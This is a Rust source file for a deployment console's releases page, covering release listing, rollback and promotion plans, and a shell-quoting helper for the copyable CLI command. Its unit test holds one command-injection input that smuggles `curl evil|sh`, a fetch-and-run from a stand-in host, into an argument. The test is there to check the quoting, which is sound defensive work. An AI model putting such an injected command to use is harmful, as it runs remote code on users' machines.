//! A zone's releases (who, when, from what, what changed), the plan of a rollback to one of them,
//! and the plan of promoting another zone of the project into this one, with its go-live check.
//! Applying stays with `airlock promote --apply` and `airlock env rollback`, which print the new
//! credentials once.

use askama::Template;
use axum::extract::rejection::QueryRejection;
use axum::extract::{Path, Query, State};
use axum::http::StatusCode;
use serde::Deserialize;

use super::pages::{Chrome, ConsoleError, ConsoleResult, render, timestamp};
use super::session::ConsoleZone;
use super::zone_chrome;
use crate::http::AppState;
use crate::promotion::UriMap;
use crate::service::Error;
use crate::service::admin::configuration::ConfigurationPlan;

struct ReleaseRow {
    number: i64,
    created: String,
    actor: String,
    source: String,
    changes: String,
    plan_href: String,
}

#[derive(Template)]
#[template(path = "console/releases.html")]
struct ReleasesPage {
    chrome: Chrome,
    rows: Vec<ReleaseRow>,
    /// The project's other zones, to promote from.
    sources: Vec<String>,
    action: String,
}

/// `GET …/releases`
pub async fn list(State(state): State<AppState>, zone: ConsoleZone) -> ConsoleResult {
    let chrome = zone_chrome(&state, &zone, "releases").await?;
    let base = format!("/console/{}/releases", zone.environment.slug());
    let releases = state
        .configuration()
        .releases(&zone.environment, zone.caller())
        .await?;
    let rows = releases
        .into_iter()
        .map(|release| ReleaseRow {
            number: release.number,
            created: timestamp(release.created_at),
            plan_href: format!("{base}/{}/rollback", release.number),
            changes: serde_json::to_string_pretty(&release.changes).unwrap_or_default(),
            actor: release.actor,
            source: release.source,
        })
        .collect();
    let sources = state
        .environments()
        .list(Some(&zone.environment.project), zone.caller())
        .await?
        .into_iter()
        .filter(|other| other.id != zone.environment.id)
        .map(|other| other.name)
        .collect();
    let page = ReleasesPage {
        chrome,
        rows,
        sources,
        action: format!("{base}/promote"),
    };
    Ok(render(StatusCode::OK, &page))
}

struct CheckRow {
    name: &'static str,
    passed: bool,
    detail: String,
}

#[derive(Template)]
#[template(path = "console/plan.html")]
struct PlanPage {
    chrome: Chrome,
    title: String,
    changes: String,
    checks: Vec<CheckRow>,
    warnings: Vec<String>,
    command: String,
    back: String,
}

fn plan_page(
    chrome: Chrome,
    zone: &ConsoleZone,
    title: String,
    plan: ConfigurationPlan,
    command: String,
) -> PlanPage {
    PlanPage {
        chrome,
        title,
        changes: plan.plan.render(),
        checks: plan
            .checks
            .into_iter()
            .map(|check| CheckRow {
                name: check.name,
                passed: check.passed,
                detail: check.detail,
            })
            .collect(),
        warnings: plan.warnings,
        command,
        back: format!("/console/{}/releases", zone.environment.slug()),
    }
}

#[derive(Deserialize)]
pub struct ReleasePath {
    number: i64,
}

/// `GET …/releases/{number}/rollback`: what restoring that release would change.
pub async fn rollback_plan(
    State(state): State<AppState>,
    zone: ConsoleZone,
    Path(path): Path<ReleasePath>,
) -> ConsoleResult {
    let chrome = zone_chrome(&state, &zone, "releases").await?;
    let plan = state
        .configuration()
        .plan_rollback(&zone.environment, path.number, zone.caller())
        .await?;
    let slug = zone.environment.slug();
    let page = plan_page(
        chrome,
        &zone,
        format!("Rolling {slug} back to release {}", path.number),
        plan,
        format!("airlock env rollback {slug} --to {}", path.number),
    );
    Ok(render(StatusCode::OK, &page))
}

/// `text` as one shell word, quoted unless it is plainly safe: the page offers the command for
/// copying, and its map rules come from the query string.
fn shell_word(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "/._:=@%+-,".contains(c);
    if !text.is_empty() && text.chars().all(plain) {
        return text.to_string();
    }
    format!("'{}'", text.replace('\'', "'\\''"))
}

#[derive(Deserialize)]
pub struct PromoteQuery {
    from: String,
    /// `FROM=TO` rules, one per line.
    map: Option<String>,
}

/// `GET …/releases/promote?from=sandbox&map=…`: what promoting `from` into this zone would change.
pub async fn promotion_plan(
    State(state): State<AppState>,
    zone: ConsoleZone,
    query: Result<Query<PromoteQuery>, QueryRejection>,
) -> ConsoleResult {
    let Query(query) = query.map_err(|_| ConsoleError::status(StatusCode::BAD_REQUEST))?;
    let chrome = zone_chrome(&state, &zone, "releases").await?;
    let maps = query
        .map
        .as_deref()
        .unwrap_or("")
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty())
        .map(UriMap::parse)
        .collect::<Result<Vec<_>, _>>()
        .map_err(Error::Invalid)?;
    let source = state
        .console_sessions()
        .environment(
            &zone.operator.session,
            (&zone.environment.project, &query.from),
            zone.now,
        )
        .await?;
    let plan = state
        .configuration()
        .plan_promotion((&source, &zone.environment), &maps, zone.caller())
        .await?;
    let (from, into) = (source.slug(), zone.environment.slug());
    let map_flags: String = maps
        .iter()
        .map(|map| format!(" --map {}", shell_word(&format!("{}={}", map.from, map.to))))
        .collect();
    let page = plan_page(
        chrome,
        &zone,
        format!("Promoting {from} into {into}"),
        plan,
        format!("airlock promote {from} {into}{map_flags} --apply"),
    );
    Ok(render(StatusCode::OK, &page))
}

#[cfg(test)]
mod tests {
    use super::shell_word;

    #[test]
    fn map_rules_are_one_shell_word_each() {
        assert_eq!(
            shell_word("http://localhost:3000=https://app.acme.com"),
            "http://localhost:3000=https://app.acme.com"
        );
        assert_eq!(shell_word("a b=c"), "'a b=c'");
        assert_eq!(
            shell_word("x';curl evil|sh;'=y"),
            "'x'\\'';curl evil|sh;'\\''=y'"
        );
        assert_eq!(shell_word(""), "''");
    }
}
